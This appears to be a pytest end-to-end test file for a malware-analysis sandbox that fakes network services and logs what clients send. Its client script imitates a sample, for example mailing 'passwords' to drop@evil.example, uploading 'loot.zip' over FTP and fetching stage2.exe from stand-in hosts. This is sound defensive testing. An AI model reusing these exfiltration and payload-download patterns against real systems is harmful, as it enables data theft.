"""Recognised protocols end to end: real clients in `nftdivert sandbox`.

One sandbox runs every client, one after another, as a sample would; each
test then checks what its client got and what the log says. After this
module's own clients the same sandbox runs the scripts of the mail, small
services and C2 modules (each in a directory of its own), so one sample-like
run meets every answer we have, within the minute a sample's run may take.
The queue backend plays no part in what the listener answers: any_backend.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import subprocess
import sys
import time

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import serialization

import harness
import test_e2e_c2 as c2
import test_e2e_mail as mail
import test_e2e_small_services as small
from conftest import REPO, nftdivert_argv
from filetypes import EXPECTED, file_type
from nftdivert.services import certs

pytestmark = [pytest.mark.kernel, pytest.mark.any_backend]

BIG = 5 * 1024 * 1024  # what the script sends

# The default pair, and two listeners of a protocol's kind on fixed (bound) ports.
LISTENERS = harness.ECHO_LISTENERS + """
[[listeners]]
name = "mail"
protocol = "tcp"
port = 2526
kind = "smtp"
[[listeners]]
name = "web"
protocol = "tcp"
port = 9443
kind = "https"
"""

# $D is the work directory; every client's result lands there.
SCRIPT = r"""
cd "$D"
date +%s.%N > started
curl -sS --http1.1 --max-time 20 -o https.txt https://c2.example/next/stage.txt; echo $? > https.rc
curl -sS --max-time 20 -o http.txt http://plain.example/hello.json; echo $? > http.rc
curl -sS --max-time 20 --cacert other-ca.pem https://untrusted.example/; echo $? > untrusted.rc
python3 -c '
import requests
for name, url, verify in (("requests_https", "https://py.example/stage.json", True),
                          ("requests_http", "http://py.example/plain.txt", True),
                          ("requests_untrusted", "https://py-untrusted.example/", "other-ca.pem")):
    try:
        r = requests.get(url, timeout=20, verify=verify)
        open(name, "w").write(str(r.status_code) + " " + r.headers.get("Content-Type", ""))
    except requests.exceptions.SSLError as exc:
        open(name, "w").write("ssl error")
' 2> requests.err; echo $? > requests.rc
openssl s_client -connect c2.example:443 -servername x.example -showcerts </dev/null >s_client.txt 2>s_client.err
wget -q -T 20 -O stage2.exe http://dl.example/files/stage2.exe; echo $? > wget.rc
head -c 5242880 /dev/urandom > big.bin
curl -sS --http1.1 --max-time 60 -o /dev/null --data-binary @big.bin https://upload.example/up; echo $? > big.rc
printf 'chunk-body' | curl -sS --max-time 20 -o /dev/null -H 'Transfer-Encoding: chunked' --data-binary @- \
    http://chunked.example/c; echo $? > chunked.rc
python3 -c '
import socket, ssl, time
def echoed(address, data, name, silent=0.0):
    s = socket.create_connection(address, timeout=10)
    time.sleep(silent)
    s.sendall(data)
    s.shutdown(socket.SHUT_WR)
    got = b""
    while chunk := s.recv(4096):
        got += chunk
    open(name, "wb").write(got)
echoed(("198.51.100.7", 4444), bytes(range(256)), "echo.bin")
echoed(("198.51.100.8", 4445), b"late words", "silent.bin", silent=1.5)  # silent past [recognize] wait
ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
ctx.check_hostname, ctx.verify_mode = False, ssl.CERT_NONE
with socket.create_connection(("203.0.113.9", 8443), timeout=10) as raw:
    with ctx.wrap_socket(raw) as tls:  # no server_hostname: no SNI
        open("nosni.der", "wb").write(tls.getpeercert(binary_form=True))
        open("nosni.port", "w").write(str(tls.getsockname()[1]))
'
python3 -c '
import smtplib
with smtplib.SMTP("mx.example", 25, timeout=15) as s:
    s.login("bot", "hunter2")
    s.sendmail("bot@victim.example", ["drop@evil.example"], MAIL)
' 2> smtp.err; echo $? > smtp.rc
python3 -c '
import smtplib, ssl
with smtplib.SMTP_SSL("smtps.example", 465, timeout=15, context=ssl.create_default_context()) as s:
    s.sendmail("a@b.example", ["c@d.example"], b"Subject: over tls\r\n\r\nhi\r\n")
' ; echo $? > smtps.rc
python3 -c '
import poplib
p = poplib.POP3("pop.example", 110, timeout=15)
p.user("popuser")
p.pass_("pop pass")
open("pop3.stat", "w").write(repr(p.stat()))
p.quit()
' ; echo $? > pop3.rc
python3 -c '
import imaplib
m = imaplib.IMAP4("imap.example", 143, timeout=15)
m.login("imapuser", "imap pass")
open("imap.select", "w").write(repr(m.select("INBOX")))
m.logout()
' ; echo $? > imap.rc
python3 -c '
import ftplib, io
f = ftplib.FTP("ftp.example", timeout=15)
f.login("ftpuser", "ftp pass")
f.storbinary("STOR loot.zip", io.BytesIO(b"PK stolen files" * 1000))
open("ftp.list", "w").write(repr(f.nlst()))
f.quit()
' 2> ftp.err; echo $? > ftp.rc
timeout 5 ssh -v -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@c2.example true \
    </dev/null 2>ssh.err; echo $? > ssh.rc
python3 -c '
import smtplib
with smtplib.SMTP("203.0.113.20", 2526, timeout=15) as s:
    s.sendmail("fixed@b.example", ["c@d.example"], b"Subject: fixed port\r\n\r\nhi\r\n")
' ; echo $? > fixed_smtp.rc
curl -sS --max-time 20 -o fixed_https.txt https://fixed.example:9443/x.txt; echo $? > fixed_https.rc
# The other modules' scripts, one after another, each in its directory under modules/.
date +%s.%N > mail.started
D="$D/modules/mail" sh -c "$mail_script"
date +%s.%N > small.started
D="$D/modules/small" sh -c "$small_script"
date +%s.%N > c2.started
D="$D/modules/c2" sh -c "$c2_script"
date +%s.%N > finished
"""
MAIL = b"From: bot@victim.example\r\nTo: drop@evil.example\r\nSubject: loot\r\n\r\npasswords\r\n"
SCRIPT = SCRIPT.replace("MAIL", 'b"' + MAIL.decode().replace("\r\n", "\\r\\n") + '"')  # inside sh's '...'

# nmap -sV names the web ports too: mail's scan, widened to them.
NMAP_PORTS = dict(sorted({**mail.NMAP_PORTS, 80: "http", 443: "http"}.items()))
MAIL_SCRIPT = mail.SCRIPT.replace(",".join(map(str, mail.NMAP_PORTS)), ",".join(map(str, NMAP_PORTS)))
assert MAIL_SCRIPT != mail.SCRIPT
LIMIT = 60  # seconds for the whole script: what a sample's run in a sandbox may take


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    work = tmp_path_factory.mktemp("answers")
    os.chmod(work, 0o755)
    for module, clients, mode in (("mail", mail.CLIENTS, 0o755), ("small", small.CLIENTS, 0o777), ("c2", "", 0o755)):
        (work / "modules" / module).mkdir(parents=True)
        os.chmod(work / "modules" / module, mode)  # what each module gives its own work directory
        (work / "modules" / module / "clients.py").write_text(clients)
    state, bodies, keylog, pcap = work / "state", work / "bodies", work / "keys.log", work / "capture.pcap"
    config = work / "sandbox.toml"
    config.write_text(harness.DIVERT_PATH_LINE + f'[queue]\nbackend = "{harness.BACKEND}"\n[tls]\nstate_dir = "{state}"\nkeylog = "{keylog}"\n'
                      f'[http]\nbodies_dir = "{bodies}"\n[server_first]\nmail_dir = "{work / "mail"}"\n'
                      f'uploads_dir = "{work / "uploads"}"\n[small_services]\nclock_offset = {small.OFFSET}\n'
                      + LISTENERS + c2.RULES)
    (work / "other-ca.pem").write_bytes(certs.ensure_ca(work / "other").pem)  # a CA curl trusts instead
    env = dict(os.environ, PYTHONPATH=str(REPO), D=str(work), mail_script=MAIL_SCRIPT, small_script=small.SCRIPT,
               c2_script=c2.SCRIPT, EXTENSIONS=" ".join(small.EXTENSIONS), PY=sys.executable)
    env.pop("SUDO_UID", None)
    proc = subprocess.run(nftdivert_argv("sandbox", "-c", str(config), "-w", str(pcap), "--timeout", "150",
                                         "--", "sh", "-c", SCRIPT),
                          capture_output=True, text=True, env=env, timeout=200)
    assert proc.returncode == 0, proc.stderr
    records = [json.loads(line) for line in proc.stdout.splitlines() if line.startswith("{")]
    return work, records


def rc(work, name: str) -> int:
    return int((work / f"{name}.rc").read_text())


def tls_record(records, sni: str) -> dict:
    found = [r for r in records if r.get("event") == "tls" and r.get("sni") == sni]
    assert found, f"no TLS handshake logged for {sni}: {records}"
    return found[0]


def http_record(records, url: str) -> dict:
    found = [r for r in records if r.get("event") == "http" and r.get("url") == url]
    assert found, f"no HTTP request logged for {url}: {records}"
    return found[0]


def test_https_with_the_ca_trusted_gets_the_body_and_the_request_is_logged(run):
    work, records = run
    assert rc(work, "https") == 0 and (work / "https.txt").read_bytes() == b"ok\n"
    hello = tls_record(records, "c2.example")
    assert hello["result"] == "ok" and hello["version"] in ("TLSv1.2", "TLSv1.3")
    assert "http/1.1" in hello["alpn_offered"] and hello["alpn"] == "http/1.1"
    req = http_record(records, "https://c2.example/next/stage.txt")
    assert req["method"] == "GET" and req["status"] == 200 and req["client"] == hello["client"]
    assert ["Host", "c2.example"] in req["headers"]
    # The conversation log names the same client, with the destination it asked for.
    assert req["original_destination"] == hello["original_destination"]
    conv = [r for r in records if r.get("client") == req["client"] and "protocol" in r]
    assert conv and conv[0]["original_destination"].endswith(":443") and conv[0]["name"] == "c2.example"


def test_python_requests_trusts_the_ca_through_the_sandbox_and_is_logged(run):
    work, records = run
    assert rc(work, "requests") == 0, (work / "requests.err").read_text()
    assert (work / "requests_https").read_text() == "200 application/json"
    assert (work / "requests_http").read_text().startswith("200 text/plain")
    assert http_record(records, "https://py.example/stage.json")["method"] == "GET"
    assert http_record(records, "http://py.example/plain.txt")["status"] == 200
    # Another CA than ours: the handshake fails, and the SNI is logged all the same.
    assert (work / "requests_untrusted").read_text() == "ssl error"
    assert tls_record(records, "py-untrusted.example")["result"] == "failed"


def test_plain_http_gets_the_file_type_asked_for(run):
    work, records = run
    assert rc(work, "http") == 0 and json.loads((work / "http.txt").read_text()) == {}
    assert http_record(records, "http://plain.example/hello.json")["status"] == 200


def test_an_untrusted_ca_fails_the_handshake_and_the_sni_is_still_logged(run):
    work, records = run
    assert rc(work, "untrusted") == 60  # curl: the peer's certificate cannot be verified
    hello = tls_record(records, "untrusted.example")
    assert hello["result"] == "failed" and "UNKNOWN_CA" in hello["error"].upper()
    assert not [r for r in records if r.get("event") == "http" and "untrusted.example" in r.get("url", "")]


def test_s_client_gets_a_certificate_for_the_sni_that_chains_to_the_ca(run):
    work, records = run
    out = (work / "s_client.txt").read_text()
    pems = re.findall(r"-----BEGIN CERTIFICATE-----.+?-----END CERTIFICATE-----\n", out, re.S)
    assert pems, out
    leaf = x509.load_pem_x509_certificate(pems[0].encode())
    names = leaf.extensions.get_extension_for_class(x509.SubjectAlternativeName).value
    assert names.get_values_for_type(x509.DNSName) == ["x.example"]
    (work / "leaf.pem").write_text(pems[0])
    ca = work / "state" / "ca.pem"
    verify = subprocess.run(["openssl", "verify", "-CAfile", str(ca), "-verify_hostname", "x.example",
                             str(work / "leaf.pem")], capture_output=True, text=True)
    assert verify.returncode == 0 and verify.stdout.strip().endswith(": OK"), verify.stdout + verify.stderr
    assert "Verify return code: 0 (ok)" in out  # the sandbox's /etc/ssl bundle holds the CA
    assert tls_record(records, "x.example")["result"] == "ok"


def test_the_state_directory_is_private(run):
    work, _ = run
    assert (work / "state").stat().st_mode & 0o777 == 0o700
    assert (work / "state" / "ca.key").stat().st_mode & 0o777 == 0o600
    key = serialization.load_pem_private_key((work / "state" / "ca.key").read_bytes(), None)
    ca = x509.load_pem_x509_certificate((work / "state" / "ca.pem").read_bytes())
    assert key.public_key().public_numbers() == ca.public_key().public_numbers()


def test_wget_of_an_exe_gets_a_pe_file(run):
    work, records = run
    assert rc(work, "wget") == 0
    data = (work / "stage2.exe").read_bytes()
    assert data[:2] == b"MZ"
    pe_at = int.from_bytes(data[0x3C:0x40], "little")
    assert data[pe_at:pe_at + 4] == b"PE\0\0" and int.from_bytes(data[pe_at + 4:pe_at + 6], "little") == 0x14C
    assert http_record(records, "http://dl.example/files/stage2.exe")["headers"][0][0] == "Host"


def test_a_5_mb_post_is_read_whole_stored_and_hashed(run):
    work, records = run
    assert rc(work, "big") == 0
    sent = (work / "big.bin").read_bytes()
    digest = hashlib.sha256(sent).hexdigest()
    req = http_record(records, "https://upload.example/up")
    assert req["method"] == "POST" and req["body_size"] == BIG and req["body_sha256"] == digest
    assert ["Expect", "100-continue"] in req["headers"]  # curl asks for it above 1 MiB
    assert req["body_saved"] == str(work / "bodies" / digest)
    assert hashlib.sha256((work / "bodies" / digest).read_bytes()).hexdigest() == digest


def test_a_chunked_body_is_read_whole(run):
    work, records = run
    assert rc(work, "chunked") == 0
    req = http_record(records, "http://chunked.example/c")
    assert req["body_size"] == len(b"chunk-body")
    assert req["body_sha256"] == hashlib.sha256(b"chunk-body").hexdigest()


def test_an_unknown_binary_protocol_is_echoed(run):
    work, records = run
    assert (work / "echo.bin").read_bytes() == bytes(range(256))
    assert not [r for r in records if r.get("event") in ("tls", "http") and "4444" in r.get("url", "")]


def test_the_capture_and_the_key_log_decrypt_to_the_https_request(run):
    work, _ = run
    assert (work / "keys.log").read_text().count("CLIENT_TRAFFIC_SECRET_0") >= 3
    out = subprocess.run(["tshark", "-n", "-r", str(work / "capture.pcap"), "-o",
                          f"tls.keylog_file:{work / 'keys.log'}", "-Y", "http.request", "-T", "fields",
                          "-e", "http.host", "-e", "http.request.uri"],
                         capture_output=True, text=True, timeout=120)
    assert "c2.example\t/next/stage.txt" in out.stdout, out.stdout + out.stderr


def test_a_client_hello_without_sni_gets_a_leaf_for_the_address_it_asked_for(run):
    work, records = run
    leaf = x509.load_der_x509_certificate((work / "nosni.der").read_bytes())
    names = leaf.extensions.get_extension_for_class(x509.SubjectAlternativeName).value
    assert [str(ip) for ip in names.get_values_for_type(x509.IPAddress)] == ["203.0.113.9"]
    port = (work / "nosni.port").read_text()
    hello = [r for r in records if r.get("event") == "tls" and r["client"].endswith(f":{port}")]
    assert hello and "sni" not in hello[0] and hello[0]["original_destination"] == "203.0.113.9:8443", records


def test_a_silent_client_on_a_port_without_a_server_first_protocol_gets_the_echo(run):
    work, _ = run
    assert (work / "silent.bin").read_bytes() == b"late words"


def records_of(records, event: str) -> list[dict]:
    return [r for r in records if r.get("event") == event]


def test_smtplib_logs_in_and_its_mail_is_stored_and_logged(run):
    work, records = run
    assert rc(work, "smtp") == 0, (work / "smtp.err").read_text()
    auth = records_of(records, "smtp_auth")
    assert auth and auth[0]["user"] == "bot" and auth[0]["password"] == "hunter2", records
    mail = [r for r in records_of(records, "smtp") if r["mail_from"] == "bot@victim.example"]
    assert mail and mail[0]["rcpt_to"] == ["drop@evil.example"] and ["Subject", "loot"] in mail[0]["headers"]
    assert mail[0]["original_destination"].endswith(":25") and mail[0]["v"] >= 1
    assert mail[0]["name"] == "mx.example"  # the DNS name the address stood for, joined
    stored = (work / "mail" / (mail[0]["sha256"] + ".eml")).read_bytes()
    assert mail[0]["saved"] == str(work / "mail" / (mail[0]["sha256"] + ".eml"))
    assert stored.replace(b"\r\n", b"\n") == MAIL.replace(b"\r\n", b"\n")


def test_smtp_over_implicit_tls_on_465_is_smtp_inside(run):
    work, records = run
    assert rc(work, "smtps") == 0
    mail = [r for r in records_of(records, "smtp") if r["mail_from"] == "a@b.example"]
    assert mail and mail[0]["original_destination"].endswith(":465")
    assert tls_record(records, "smtps.example")["result"] == "ok"


def test_pop3_login_is_logged_and_the_mailbox_holds_the_neutral_message(run):
    work, records = run
    assert rc(work, "pop3") == 0 and (work / "pop3.stat").read_text().startswith("(1, ")
    login = records_of(records, "pop3")
    assert login and login[0]["user"] == "popuser" and login[0]["password"] == "pop pass"
    assert login[0]["original_destination"].endswith(":110")


def test_imap_login_is_logged_and_the_inbox_holds_the_neutral_message(run):
    work, records = run
    assert rc(work, "imap") == 0 and (work / "imap.select").read_text() == "('OK', [b'1'])"
    login = records_of(records, "imap")
    assert login and login[0]["user"] == "imapuser" and login[0]["password"] == "imap pass"


def test_ssh_in_batch_mode_exits_within_5_s_with_the_banner_logged(run):
    work, records = run
    err = (work / "ssh.err").read_text()
    assert rc(work, "ssh") == 255 and "Permission denied" in err, err  # not 124: timeout(1) did not kill it
    assert "remote software version OpenSSH_9.2p1" in err
    rec = records_of(records, "ssh")
    assert rec and rec[0]["client_version"].startswith("SSH-2.0-OpenSSH") and rec[0]["logins"] == []
    assert rec[0]["original_destination"].endswith(":22")


def test_ftplib_logs_in_and_uploads_a_file_that_is_kept(run):
    work, records = run
    assert rc(work, "ftp") == 0, (work / "ftp.err").read_text()
    assert "update.exe" in (work / "ftp.list").read_text()  # the tree every directory shows
    login = records_of(records, "ftp")
    assert login and login[0]["user"] == "ftpuser" and login[0]["password"] == "ftp pass"
    assert login[0]["original_destination"].endswith(":21")
    (up,) = [r for r in records_of(records, "ftp_upload") if r["name"] == "loot.zip"]
    sent = b"PK stolen files" * 1000
    assert up["name"] == "loot.zip" and up["size"] == len(sent) and up["sha256"] == hashlib.sha256(sent).hexdigest()
    assert (work / "uploads" / up["sha256"]).read_bytes() == sent


def test_every_client_of_the_sample_like_script_finished_within_60_s(run):
    work, _ = run
    marks = ("started", "mail.started", "small.started", "c2.started", "finished")
    stamps = [float((work / mark).read_text()) for mark in marks]
    took = stamps[-1] - stamps[0]
    parts = ", ".join(f"{part} {end - begin:.1f} s" for part, begin, end in
                      zip(("answers", "mail", "small", "c2"), stamps, stamps[1:]))
    print(f"the sample-like script took {took:.1f} s: {parts}")
    assert took < LIMIT, f"the clients took {took:.1f} s ({parts})"


def test_listeners_of_a_protocols_kind_speak_it_on_their_bound_port(run):
    work, records = run
    assert rc(work, "fixed_smtp") == 0
    mail = [r for r in records_of(records, "smtp") if r["mail_from"] == "fixed@b.example"]
    # A bound port: the worker never rewrote it, conntrack still knows the address asked for.
    assert mail and mail[0]["listener"] == "mail" and mail[0]["original_destination"] == "203.0.113.20:2526"
    assert rc(work, "fixed_https") == 0 and (work / "fixed_https.txt").read_bytes() == b"ok\n"
    req = http_record(records, "https://fixed.example:9443/x.txt")
    assert req["listener"] == "web" and req["original_destination"].endswith(":9443")


# The other modules' clients, run after this module's in the same sandbox.

def test_every_client_of_the_other_modules_scripts_succeeded(run):
    work, _ = run
    codes = {str(p.relative_to(work / "modules")): p.read_text().strip() for p in (work / "modules").rglob("*.rc")}
    assert len(codes) > 40 and set(codes.values()) == {"0"}, codes
    clients = json.loads((work / "modules" / "mail" / "clients.json").read_text())
    assert not [step for step, got in clients.items() if str(got).startswith("error")], clients
    assert all("Subject: Welcome" in clients[step] for step in ("pop3_stls", "pop3_ssl", "imap_starttls", "imap_ssl"))
    for port, greeting in ((21, "220 "), (25, "220 "), (110, "+OK "), (143, "* OK ")):  # early talkers
        assert clients[f"early_{port}"].startswith(greeting), clients[f"early_{port}"]
    ws = json.loads((work / "modules" / "c2" / "ws.json").read_text())
    assert ws["echo"]["accepted"] and ws["rule"] == {"accepted": True, "got": ["run calc.exe"]}, ws
    irc = json.loads((work / "modules" / "small" / "irc.json").read_text())
    assert any(" 376 " in line for line in irc) and any(line.endswith("JOIN #orders") for line in irc), irc


def test_ftp_in_every_mode_retrieves_a_pe(run):
    work, _ = run
    for name in ("activeuser.exe", "active4user.exe", "passive.exe", "implicit.exe"):
        assert mail.is_pe((work / "modules" / "mail" / name).read_bytes()), name
    assert "PE32 executable (DLL)" in file_type(work / "modules" / "mail" / "tls.dll")  # over FTP_TLS, prot_p()


def test_the_clocks_read_tomorrow(run):
    work, _ = run
    small_dir = work / "modules" / "small"
    for name in ("ntp.json", "time_udp.json", "time_tcp.json"):
        assert abs(small.got(small_dir, name)["offset"] - small.OFFSET) < 5, name
    out = (small_dir / "ntpdate.txt").read_text()
    offsets = small.ntpdate_offsets(out)
    assert offsets and all(abs(o - small.OFFSET) < 5 for o in offsets), out
    tomorrow = time.strftime("%B %d, %Y", time.gmtime(time.time() + small.OFFSET))
    assert tomorrow in small.got(small_dir, "daytime_tcp.json")["text"]


@pytest.mark.parametrize("ext", small.EXTENSIONS + ("exe",))
def test_wget_of_each_payload_extension_gets_its_file_type(run, ext):
    work, _ = run
    path = work / "stage2.exe" if ext == "exe" else work / "modules" / "small" / f"payload.{ext}"
    assert EXPECTED[ext] in file_type(path)


def test_nmap_names_every_service_web_included(run):
    work, _ = run
    out = (work / "modules" / "mail" / "nmap.txt").read_text()
    found = dict(re.findall(r"(\d+)/open/tcp//([^/]*)/", out))
    for port in ("443", "993", "995"):  # inside TLS: nmap says ssl|http, or https
        found[port] = re.sub(r"^(ssl\|)?(http|imap|pop3)s?$", r"\2", found.get(port, ""))
    assert found == {str(port): name for port, name in NMAP_PORTS.items()}, out
    took = float((work / "modules" / "mail" / "nmap.finished").read_text()) - \
        float((work / "modules" / "mail" / "nmap.started").read_text())
    print(f"nmap -sV took {took:.1f} s")
    # nmap waits 6 s for a banner from a server that waits for the client (its NULL probe), on 443 twice
    # (outside TLS, then inside): 12 s of it is nmap's own waiting, as with any web server.
    assert took < 20, f"nmap -sV took {took:.1f} s"


# Each client: (event, the destination it asked for (or its port), the name it asked by, fields that pick its record)
LOGGED = [
    ("smtp_auth", ":587", "swaks.example", {"user": "swaksuser"}),
    ("smtp", ":587", "swaks.example", {"mail_from": "a@victim.example"}),
    ("smtp_auth", ":25", "st.example", {"user": "stuser"}),
    ("smtp", ":465", "smtps.example", {"mail_from": "ssl@victim.example"}),
    ("pop3", ":110", "pop.example", {"user": "stlsuser"}),
    ("pop3", ":995", "pops.example", {"user": "ssluser"}),
    ("imap", ":143", "imap.example", {"user": "starttlsuser"}),
    ("imap", ":993", "imaps.example", {"user": "ssluser"}),
    ("ftp", ":21", "ftp.example", {"user": "activeuser"}),
    ("ftp", ":21", "ftp.example", {"user": "passiveuser"}),
    ("ftp", ":21", "ftps.example", {"user": "tlsuser"}),
    ("ftp", ":990", "ftps990.example", {"user": "implicituser"}),
    ("ntp", ":123", "ntp.example", {}),
    ("ntp", ":123", "ntpdate.example", {}),
    ("time", ":37", "rdate.example", {}),
    ("time", ":37", "time-tcp.example", {}),
    ("time", ":37", "time-udp.example", {}),
    ("time", ":37", "rdate-udp.example", {}),
    ("daytime", ":13", "daytime-tcp.example", {}),
    ("daytime", ":13", "daytime-udp.example", {}),
    ("tftp", ":69", "tftp.example", {"operation": "read", "file": "boot/stage.pdf"}),
    ("tftp", ":69", "tftp.example", {"operation": "write", "file": "loot.bin"}),
    ("irc", ":6667", "irc.example", {"command": "JOIN", "channel": "#orders"}),
    ("irc", ":7000", "irc-other.example", {"command": "PRIVMSG", "text": "bot ready"}),
    ("irc", ":6697", "ircs.example", {"command": "register", "nick": "bot6697"}),
    ("http", ":443", "h2.example", {"url": "https://h2.example/h2.txt", "http_version": "2"}),
    ("http", ":80", "h2c.example", {"url": "http://h2c.example/h2c.txt", "http_version": "2"}),
    ("http", ":443", "dns.example", {"url": "https://dns.example/dns-query", "doh": True}),
    ("http", ":80", "doh-only.example", {"url": "http://doh-only.example/doh.txt"}),
    ("http", ":443", "cloudflare-dns.com", {"doh": True}),
    ("http", ":80", "ws.example", {"url": "ws://ws.example/gate", "status": 101}),
    ("websocket", ":80", "ws.example", {"opcode": "text"}),
    *[("http", ":80", "dl.example", {"url": f"http://dl.example/files/stage.{ext}"}) for ext in small.EXTENSIONS],
    # by address, no name
    ("http", "198.51.100.88:3128", None, {"method": "CONNECT", "tunnel": "proxied.example:443"}),
    ("http", "198.51.100.88:3128", None, {"url": "https://proxied.example/stage.txt"}),  # HTTPS inside the tunnel
    ("proxy", "198.51.100.89:1080", None, {"kind": "socks5", "target": "socks5.example:443"}),
    ("http", "198.51.100.89:1080", None, {"url": "https://socks5.example/s5.json"}),
    ("proxy", "198.51.100.90:1080", None, {"kind": "socks4a", "target": "socks4a.example:443"}),
    ("proxy", "198.51.100.91:1080", None, {"kind": "socks4", "target": "192.0.2.44:80"}),
    ("ftp", f"{mail.FTP4_ADDRESS}:21", None, {"user": "active4user"}),
    *[("start", f"{mail.EARLY_ADDRESS}:{port}", None, {}) for port in (21, 25, 110, 143)],  # early talkers
    *[("start", f"{mail.NMAP_ADDRESS}:{port}", None, {}) for port in NMAP_PORTS],
]


@pytest.mark.parametrize("event, asked, name, fields", LOGGED, ids=lambda v: v if isinstance(v, str) else None)
def test_each_client_is_logged_with_the_destination_and_name_it_asked_for(run, event, asked, name, fields):
    _, records = run
    found = [r for r in mail.events(records, event, **fields)
             if r.get("name") == name and r["original_destination"].endswith(asked)]
    assert found, f"no {event} {fields} for {name} to {asked}: {mail.events(records, event)}"
    # Its conversation's start says the same. The client's port alone does not pick it: another
    # conversation of the run may have had that port too.
    starts = [r for r in records if r.get("event") == "start" and r["client"] == found[0]["client"]
              and r["original_destination"] == found[0]["original_destination"]]
    if not starts and harness.KERNEL_PATH:
        # The kernel gave the conversation another client port at input (its reply tuple clashed
        # with one in TIME_WAIT): a listener's record names the port it saw, the start the one the
        # client used (a known limit of the kernel path's listener records).
        starts = [r for r in records if r.get("event") == "start"
                  and r["client_address"] == found[0]["client_address"]
                  and r["original_destination"] == found[0]["original_destination"]]
    assert starts and all(s.get("name") == name for s in starts), (found[0], starts)
